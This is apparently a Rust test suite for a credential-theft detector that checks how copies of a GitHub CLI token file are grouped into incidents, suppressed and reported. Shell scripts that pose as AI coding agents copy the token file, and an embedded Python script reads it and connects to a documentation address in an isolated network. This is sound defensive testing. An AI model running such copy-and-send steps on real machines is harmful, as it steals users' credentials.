//! Incidents of real processes: a storm is one with exact numbers, two thefts are two, one goes on after the agent was killed,
//! and what is ordered on the command line is done.

use std::{
    fs,
    io::Write,
    mem::replace,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
};

use serde_json::Value;
use tokenhound_tests::{
    agent::Agent,
    http, ocsf,
    process::{self, Background, Ended},
    skip,
    stage::Stage,
    store::Store,
};

use crate::lifecycle::is_known;

/// Copies that one process tree makes: each is a read and a copy.
const COPIES: u64 = 1000;

struct Scene<'s> {
    stage: &'s Stage,
    home: PathBuf,
    _resident: Background,
}

impl<'s> Scene<'s> {
    /// A home with a store in which somebody lives.
    fn new(stage: &'s Stage) -> Self {
        let home = stage.directory("homes/ann");
        Store::GhHosts.put(stage, &home);
        let resident = Background::start(Command::new("sleep").arg("3600").env("HOME", &home));
        Self { stage, home, _resident: resident }
    }

    /// An agent that knows the token, and writes notifications to a file.
    fn agent(&self) -> Agent<'s> {
        let sinks = format!("sinks: [{{name: duty, type: file, path: {}, take: incidents}}]\n", self.told().display());
        let config = self.stage.file("tokenhound.yaml", sinks);
        let mut agent = Agent::start_with(self.stage, |command| {
            command.arg("--config").arg(config);
        });
        let store = self.home.join(Store::GhHosts.place());
        agent.process.until("the token", || is_known(self.stage, &store).then_some(()));
        agent
    }

    fn told(&self) -> PathBuf {
        self.stage.path("out/incidents")
    }

    /// Notifications of that incident so far.
    fn notices(&self, uid: &str) -> Vec<Value> {
        let all = fs::read_to_string(self.told()).unwrap_or_default();
        let whole = all.rsplit_once('\n').map_or("", |(whole, _)| whole);
        let all = whole.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        all.filter(|one| one["metadata"]["correlation_uid"] == uid).collect()
    }

    /// A shell that passes for an AI agent: all that it starts is one doing, whatever started the test.
    fn robot(&self, name: &str, script: &str) -> Child {
        let shell = self.stage.program(name, Path::new("/bin/bash"));
        let mut command = Command::new(shell);
        command.args(["-c", script]).env("HOME", &self.home).current_dir(&self.home).stdin(Stdio::piped());
        command.spawn().unwrap()
    }

    fn ask(&self, arguments: &[&str]) -> Ended {
        let mut command = Command::new(process::tokenhound());
        let ended = process::run(command.args(arguments).arg("--state-dir").arg(self.stage.path("state")), b"");
        self.stage.search(arguments[0], &ended.stdout);
        ended
    }

    /// What is known of the incident of the robot of that name.
    fn incident(&self, name: &str) -> Option<Value> {
        let text = self.ask(&["incidents", "list", "--all", "--format", "json"]).out();
        let all: Value = serde_json::from_str(&text).ok()?;
        let of = |one: &&Value| one["who"]["name"].as_str().is_some_and(|said| said.contains(name));
        all["incidents"].as_array()?.iter().find(of).cloned()
    }
}

fn count(incident: &Value, tally: &str, name: &str) -> u64 {
    let named = incident[tally]["named"].as_array().into_iter().flatten();
    named.filter(|one| one[0] == name).filter_map(|one| one[1].as_u64()).sum()
}

fn metric(text: &str, name: &str) -> u64 {
    let of = text.lines().filter(|line| line.starts_with(&format!("tokenhound_{name}")));
    of.filter_map(|line| line.rsplit(' ').next()?.parse::<u64>().ok()).sum()
}

#[test]
fn a_storm_is_one_incident_with_exact_numbers() {
    let stage = Stage::new();
    let scene = Scene::new(&stage);
    let mut agent = scene.agent();
    let script = format!("for n in $(seq {COPIES}); do cp .config/gh/hosts.yml copy$n; done");
    let mut robot = scene.robot("claude", &script);
    assert!(robot.wait().unwrap().success());
    let port = agent.port;
    let mut before = Value::Null;
    let incident = agent.process.until("all of it", || {
        let metrics = http::get(port, "/metrics")?.1;
        let incident = scene.incident("Claude Code")?;
        let missed =
            metric(&metrics, "records_lost_total") + metric(&metrics, "files_scanned_total{outcome=\"queue_full\"}");
        let all = ["unexpected-reader", "token-copied"].map(|detector| count(&incident, "detectors", detector));
        let but_missed = all.iter().all(|some| *some > 100 && some + missed >= COPIES);
        let settled = replace(&mut before, incident.clone()) == incident;
        (all == [COPIES, COPIES] || (but_missed && settled)).then_some(incident)
    });
    let uid = incident["uid"].as_str().unwrap().to_owned();
    let (findings, summarised) = (incident["findings"].as_u64().unwrap(), incident["summarised"].as_u64().unwrap());
    println!("{findings} findings, {summarised} of them only counted; {} notifications", scene.notices(&uid).len());
    let mine = |all: &[tokenhound_tests::finding::Finding]| all.iter().filter(|one| one.mentions(&uid)).count() as u64;
    agent.until("those that are stored", |all| mine(all) == findings - summarised);
    assert!(findings - summarised < 200, "{findings} findings, {summarised} of them only counted");
    agent.process.until("as many in the metrics", || {
        (metric(&http::get(port, "/metrics")?.1, "findings_summarised_total") >= summarised).then_some(())
    });
    let told = || Some(scene.notices(&uid)).filter(|notices| !notices.is_empty());
    let notices = agent.process.until("its notification", told);
    assert!(notices.len() <= 5, "{notices:#?}");
    assert_eq!((&notices[0]["type_uid"], &notices[0]["status"]), (&200_501.into(), &"New".into()));

    assert_eq!(scene.ask(&["incidents", "close", &uid[..8]]).code(), 0);
    let last = agent.process.until("its end", || scene.notices(&uid).pop().filter(|one| one["activity_id"] == 3));
    let said = last["message"].as_str().unwrap();
    let wanted = format!("copied 1 token ({} times", if findings == 2 * COPIES { "1,000" } else { "" });
    assert!(said.starts_with("CLOSED") && said.contains(&wanted) && said.contains("revoke: "), "{said}");
    assert_eq!(last["count"].as_u64(), Some(findings));
    let told = agent.process.until("its state", || {
        let told = scene.ask(&["explain", &uid]).out();
        told.contains("closed by hand").then_some(told)
    });
    assert!(told.contains("token-copied"), "{told}");
    ocsf::check(&scene.told());
    agent.stop();
}

#[test]
fn it_goes_on_after_a_kill_and_another_is_apart() {
    let stage = Stage::new();
    let scene = Scene::new(&stage);
    let mut agent = scene.agent();
    let mut robot = scene.robot("claude", "cp .config/gh/hosts.yml a; read -r; cp .config/gh/hosts.yml b; read -r");
    let both = |name: &str, times: u64| {
        let one = scene.incident(name)?;
        let all =
            ["unexpected-reader", "token-copied"].iter().all(|detector| count(&one, "detectors", detector) == times);
        all.then(|| one["uid"].as_str().unwrap().to_owned())
    };
    let before = agent.process.until("its incident", || both("Claude Code", 1));
    let opened = scene.notices(&before).len();
    let _ = agent.kill();
    let mut agent = scene.agent();
    let orders = robot.stdin.as_mut().unwrap();
    orders.write_all(b"\n").unwrap();
    assert_eq!(agent.process.until("the same", || both("Claude Code", 2)), before);
    // Another process tree, the same token: another incident.
    let mut other = scene.robot("codex", "cp .config/gh/hosts.yml c; :");
    assert!(other.wait().unwrap().success());
    let apart = agent.process.until("the other", || both("Codex", 1));
    assert_ne!(apart, before);
    agent.process.until("its notification", || (!scene.notices(&apart).is_empty()).then_some(()));
    assert!(opened <= scene.notices(&before).len());

    let listed = |text: &str| scene.ask(&["incidents", "list"]).out().contains(text);
    let quiet = scene.ask(&["incidents", "suppress", &apart, "--reason", "a drill", "--for", "1h"]);
    assert_eq!(quiet.code(), 0, "{}", quiet.err());
    assert!(listed("open, suppressed") && listed("a drill"), "{}", scene.ask(&["incidents", "list"]).out());
    assert_eq!(scene.ask(&["incidents", "suppress", &apart, "--reason", "for ever", "--for", "900d"]).code(), 2);
    assert_eq!(scene.ask(&["incidents", "unsuppress", "1"]).code(), 0);
    assert!(!listed("a drill"));
    drop(robot.stdin.take());
    robot.wait().unwrap();
    agent.stop();
}

/// In a network of its own: reads the store, and until its standard input ends copies it, and connects to an address of the
/// documentation's, which lies on its loopback device. The hooks on closes and connections come with the read.
const EXFILTRATION: &str = r#"
import select, socket, sys
token = open(".config/gh/hosts.yml").read()
listener = socket.create_server(("203.0.113.7", 8443))
while not select.select([sys.stdin], [], [], 0.05)[0]:
    open("loot", "w").write(token)
    socket.create_connection(("203.0.113.7", 8443)).close()
    listener.accept()[0].close()
"#;

#[test]
fn what_was_read_copied_and_sent_is_one_critical_incident() {
    if !skip::native("what programs send does not depend on the kernel") || !skip::has(&["unshare", "ip", "python3"]) {
        return;
    }
    let stage = Stage::new();
    let scene = Scene::new(&stage);
    let mut agent = scene.agent();
    let thief = stage.file("thief.py", EXFILTRATION);
    let script = format!(
        "unshare --net bash -c 'ip link set lo up; ip addr add 203.0.113.7/32 dev lo; python3 {}'; :",
        thief.display()
    );
    let mut robot = scene.robot("claude", &script);
    let incident = agent.process.until("what was copied and sent in its incident", || {
        let has = |one: &Value, detector: &str| count(one, "detectors", detector) > 0;
        scene.incident("Claude Code").filter(|one| has(one, "token-copied") && has(one, "token-egress"))
    });
    drop(robot.stdin.take());
    assert!(robot.wait().unwrap().success());
    assert_eq!(count(&incident, "detectors", "unexpected-reader"), 1, "{incident:#}");
    let uid = incident["uid"].as_str().unwrap();
    let last = agent.process.until("what it says", || {
        let all = ["copied 1 token", "connected to 203.0.113.7:8443"];
        let says = |one: &Value| all.iter().all(|part| one["message"].as_str().is_some_and(|said| said.contains(part)));
        scene.notices(uid).pop().filter(says)
    });
    assert_eq!(last["severity"], "Critical", "{last:#}");
    ocsf::check(&scene.told());
    agent.stop();
}
